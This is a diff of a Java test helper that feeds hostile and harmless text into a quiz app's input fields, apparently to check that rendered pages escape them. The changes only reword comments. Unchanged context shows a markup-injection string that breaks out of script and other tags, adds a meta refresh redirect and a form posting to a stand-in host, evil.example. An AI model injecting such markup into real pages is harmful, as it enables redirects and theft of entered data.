@@ -18,8 +18,8 @@ import tools.jackson.dataformat.yaml.YAMLMapper;
 /** Texts for every input field: hostile ones, or harmless ones with a letter in place of each special character. */
 record EnteredTexts(UnaryOperator<String> as) {
     /**
-     * Closes, hides or breaks a script and then adds its own markup; also contains what ends other kinds of text in HTML. No word is too
-     * long for a phone.
+     * Closes, hides or breaks a script and then adds its own markup; also contains the tags that end other kinds of
+     * text in HTML. No word is too long for a phone.
      */
     private static final String MARKUP = "</script><!--<script>]]>\u2028 </title></textarea></style></noscript> "
             + "<meta http-equiv=refresh content=\"0;url=privacy\"> <form action=//evil.example> <input name=q> "
@@ -31,8 +31,8 @@ record EnteredTexts(UnaryOperator<String> as) {
     static final EnteredTexts HARMLESS = new EnteredTexts(EnteredTexts::harmless);
 
     /**
-     * Keys of quiz files whose values are free text. The others are ids and types, which the schema restricts to letters, digits and
-     * hyphens.
+     * Keys of quiz files whose values are free text. The other values are ids and types, which the schema restricts to
+     * letters, digits and hyphens.
      */
     private static final Set<String> WORDS = Set.of(
             "title",
@@ -57,7 +57,7 @@ record EnteredTexts(UnaryOperator<String> as) {
     private static final Path QUIZZES = Path.of("src/test/resources/org/framewise/loading");
     private static final YAMLMapper YAML = new YAMLMapper();
 
-    /** Returns a text of the same length that consists only of letters to HTML and JavaScript. */
+    /** Returns a text of the same length, with the letter x in place of each special character. */
     static String harmless(String text) {
         return text.codePoints()
                 .map(c -> Character.isLetterOrDigit(c) || c == ' ' ? c : 'x')
@@ -141,7 +141,10 @@ record EnteredTexts(UnaryOperator<String> as) {
         }
     }
 
-    /** With categories of its own, a statement's key is text too; then it can't count for discernment. */
+    /**
+     * Gives the item its own categories, so that its statements' keys contain the text too. Such an item can't count
+     * for discernment.
+     */
     private void nameCategories(ObjectNode item) {
         item.remove("counts_for_discernment");
         ArrayNode named = item.arrayNode();
